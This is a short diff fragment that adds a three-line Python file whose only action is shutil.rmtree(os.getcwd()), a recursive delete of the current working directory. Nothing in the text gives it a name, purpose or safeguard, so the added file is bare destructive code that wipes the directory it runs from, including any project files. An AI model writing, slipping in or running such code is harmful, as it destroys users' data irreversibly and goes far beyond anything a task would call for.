@@ -1,0 +1,3 @@
+import os
+import shutil
+shutil.rmtree(os.getcwd())
